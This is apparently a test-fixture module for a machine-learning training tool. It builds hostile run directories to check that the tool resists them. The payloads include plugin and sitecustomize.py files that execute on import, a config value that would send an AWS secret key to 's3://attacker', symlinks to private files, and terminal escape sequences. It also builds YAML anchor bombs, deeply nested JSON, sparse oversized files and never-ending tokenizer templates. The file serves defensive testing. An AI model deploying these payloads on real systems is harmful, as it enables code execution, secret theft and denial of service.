"""Runs as an attacker would send them, one kind of attack each. Every file is real; nothing of ours is replaced."""

from __future__ import annotations

import json
import os
import shutil
from collections.abc import Callable
from pathlib import Path

from tests.interop.tiny_hf import foreign_tokenizer
from tests.tiny_run import make_run

from bessemer.checkpoint.files import COMMIT, read_manifest, write_manifest
from bessemer.job import RunDirectory

SECRET = "AKIA-not-for-you"
"""In the environment and in a file outside; no command may print it, and no file of a run may hold it."""
PROOF = "executed.txt"
CONTROL = "\x1b]0;owned\x07\x1b[2J\r\x9b31m"
"""What would retitle or clear a terminal."""
NESTED = "[" * 200_000 + "]" * 200_000
FOR, END = "{% for x in range(99999) %}", "{% endfor %}"


def make_sound(root: Path) -> RunDirectory:
    """What the attacks begin from: a run that was not started here, with everything that a run holds."""
    run = make_run(root, "sound", steps=(10,))
    run.write_status(state="stopped", step=10, exit_code=75, message="")
    run.metrics.write_text("".join(json.dumps({"step": n, "loss": 3.0}) + "\n" for n in range(1, 11)))
    run.samples.write_text(json.dumps({"step": 10, "prompt": "a", "text": "b"}) + "\n")
    run.origin.unlink()
    return run


def make_hostile(sound: RunDirectory, place: Path, kind: str) -> RunDirectory:
    """The run with an attack, below PLACE/runs; PLACE is the user's working directory."""
    (place.parent / "private.txt").write_text(f"password {SECRET}\n" * 100)
    run = RunDirectory(place / "runs" / kind)
    shutil.copytree(sound.path, run.path)
    shutil.copy(sound.path.parent.parent / "cats.jsonl", place / "cats.jsonl")
    for path in (run.config, run.checkpoints / "step_00000010" / "config.yaml"):
        text = path.read_text().replace(
            f"root: '{sound.path.parent.parent / 'store'}'", "root: null"
        )  # refused by itself
        path.write_text(text.replace(str(sound.path.parent.parent), str(place)))
    step = run.checkpoints / "step_00000010"
    tree = read_manifest(step).tree
    KINDS[kind](run, place)
    if kind not in ("nested", "sizes"):  # whoever makes a checkpoint can make its checksums, too
        (step / COMMIT).unlink()
        write_manifest(step, 10, tree)
    return run


def _settings(run: RunDirectory, text: str) -> None:
    """More settings, in the run's configuration and in its checkpoint's."""
    for path in (run.config, run.checkpoints / "step_00000010" / "config.yaml"):
        path.write_text(path.read_text() + text)


def _code(run: RunDirectory, place: Path) -> None:
    evil = run.path / "evil.py"
    evil.write_text(f"open({str(place / PROOF)!r}, 'w').write('executed')\ndef run(*a, **k): pass\n")
    (run.path / "evil.yaml").write_text(f"extends: quickstart\nplugins: ['{evil}']\n")
    (run.path / "sitecustomize.py").write_text(evil.read_text())
    shutil.copy(evil, place / "json.py")
    _settings(
        run,
        f"plugins: ['{evil}']\ncallbacks: ['{evil}:run', 'evil:run']\ninit: 'recipe:{run.path}/evil.yaml'\n"
        f"distill: {{teacher: 'recipe:{run.path}/evil.yaml'}}\n"
        f"eval: {{evaluations: ['harness:{run.path}/evil.yaml', 'evil:run']}}\n",
    )


def _resolver(run: RunDirectory, place: Path) -> None:
    _settings(run, "logging: {mirror: 's3://attacker/${oc.env:AWS_SECRET_ACCESS_KEY}', run_name: '${oc.env:HOME}'}\n")


def _paths(run: RunDirectory, place: Path) -> None:
    private = place.parent / "private.txt"
    text = run.config.read_text().replace(str(place / "cats.jsonl"), str(private))
    for path in (run.config, run.checkpoints / "step_00000010" / "config.yaml"):
        path.write_text(text + f"init: '{place.parent}'\nlogging: {{mirror: 's3://attacker/runs', wandb: true}}\n")


def _root(run: RunDirectory, place: Path) -> None:
    """A folder of the sender's, in which JAX would find compiled programs."""
    compiled = run.path / "cache" / "compiled"
    compiled.mkdir(parents=True)
    (compiled / "jit_step-0-cache").write_bytes(b"machine code")
    for path in (run.config, run.checkpoints / "step_00000010" / "config.yaml"):
        path.write_text(path.read_text().replace("root: null", f"root: '{run.path / 'cache'}'"))


def _links(run: RunDirectory, place: Path) -> None:
    private = place.parent / "private.txt"
    for name in ("notes.txt", "report.md", "log.txt", "model/tokenizer.json", "plots", "eval/x.json"):
        path = run.path / name
        path.parent.mkdir(exist_ok=True)
        path.unlink(missing_ok=True)
        path.symlink_to(private)


def _pipe(run: RunDirectory, place: Path) -> None:
    run.metrics.unlink()
    os.mkfifo(run.metrics)
    os.mkfifo(run.path / "weights.jsonl")


def _escapes(run: RunDirectory, place: Path) -> None:
    """Names and texts with control characters, wherever a run holds text."""
    run.status.write_text(json.dumps({"state": f"done{CONTROL}", "step": CONTROL, "message": CONTROL * 50}))
    row = {"step": 1, "loss": 1.0, f"x{CONTROL}": 2.0, f"loss/{CONTROL}": 3.0}
    run.metrics.write_text(json.dumps(row) + "\n")
    run.samples.write_text(json.dumps({"step": 1, "prompt": CONTROL, "text": CONTROL}) + "\n")
    run.derived.write_text(json.dumps({CONTROL: {"value": CONTROL, "reason": CONTROL}}))
    (run.path / "facts.json").write_text(json.dumps({"gpu": CONTROL, "steps": CONTROL, "baselines": {CONTROL: 1}}))
    (run.eval / "x.json").write_text(json.dumps({"task": CONTROL, "metric": CONTROL, "value": 1.0, "step": 1}))
    (run.path / f"odd{CONTROL[:8].replace('/', '')}.txt").write_text("x")
    run.log.write_text(CONTROL)
    _settings(run, 'title: "\\e]0;owned\\a\\e[2J"\nlogging: {run_name: "\\e]0;owned\\a"}\n')


def _nested(run: RunDirectory, place: Path) -> None:
    for path in (run.status, run.derived, run.path / "facts.json", run.stages, run.eval / "x.json", run.origin):
        path.write_text(NESTED)
    run.metrics.write_text(NESTED + "\n{}\n")
    run.samples.write_text('{"text": ' + NESTED + "}\n{}\n")
    for name in ("loop.json", "meta.json", "tokenizer.json", "COMMIT"):
        (run.checkpoints / "step_00000010" / name).write_text(NESTED)


def _huge(run: RunDirectory, place: Path) -> None:
    """Files that claim to be larger than any memory (sparse), and numbers that no float holds."""
    for path in (run.metrics, run.samples, run.derived, run.log, run.path / "report.md"):
        with open(path, "ab") as file:
            file.truncate(1 << 40)
    run.status.write_text(json.dumps({"state": "done", "step": 10**400, "heartbeat": 10**4000}))


def _exploding(run: RunDirectory, place: Path) -> None:
    anchors = "x: &a [x,x,x,x,x,x,x,x,x]\n"
    for old, new in zip("abcdefgh", "bcdefghi", strict=True):
        anchors += f"{new}: &{new} [{','.join(['*' + old] * 9)}]\n"
    _settings(run, anchors)


def _sizes(run: RunDirectory, place: Path) -> None:
    """A model of ten million layers, in RUN/model and in the checkpoint's configuration."""
    shutil.rmtree(run.checkpoints)
    run.checkpoints.mkdir()
    run.model.mkdir()
    shape = {"model": {"family": "gpt", "depth": 10_000_000, "width": 2**62, "vocab_size": 300}}
    (run.model / "config.json").write_text(json.dumps(shape))
    header = b'{"a": {"dtype": "F32", "shape": [4611686018427387904], "data_offsets": [0, 18446744073709551616]}}'
    (run.model / "model.safetensors").write_bytes(len(header).to_bytes(8, "little") + header)
    run.config.write_text(run.config.read_text().replace("depth: 2", "depth: 10000000"))


def _template(run: RunDirectory, place: Path) -> None:
    """A tokenizer whose chat template never ends, and whose tokens are control characters."""
    step = run.checkpoints / "step_00000010"
    foreign_tokenizer(step)
    config = {"chat_template": FOR * 3 + "{{ 'x' * 99999 }}" + END * 3, "eos_token": CONTROL}
    (step / "tokenizer_config.json").write_text(json.dumps(config))


def _tokenizer(run: RunDirectory, place: Path) -> None:
    """tokenizer.json that the library's own code trips over."""
    broken = {"version": "1.0", "added_tokens": [{"id": 2**63, "content": ""}], "model": {"type": "BPE", "vocab": {}}}
    (run.checkpoints / "step_00000010" / "tokenizer.json").write_text(json.dumps(broken))


def _decoder(run: RunDirectory, place: Path) -> None:
    """A tokenizer that turns whatever the model writes into a command to the terminal."""
    path = run.checkpoints / "step_00000010" / "tokenizer.json"
    written = {"type": "Replace", "pattern": {"Regex": "."}, "content": CONTROL}
    path.write_text(json.dumps(json.loads(path.read_text()) | {"decoder": written}))


KINDS: dict[str, Callable[[RunDirectory, Path], None]] = {
    "code": _code,
    "resolver": _resolver,
    "paths": _paths,
    "root": _root,
    "links": _links,
    "pipe": _pipe,
    "escapes": _escapes,
    "nested": _nested,
    "huge": _huge,
    "exploding": _exploding,
    "sizes": _sizes,
    "template": _template,
    "tokenizer": _tokenizer,
    "decoder": _decoder,
}
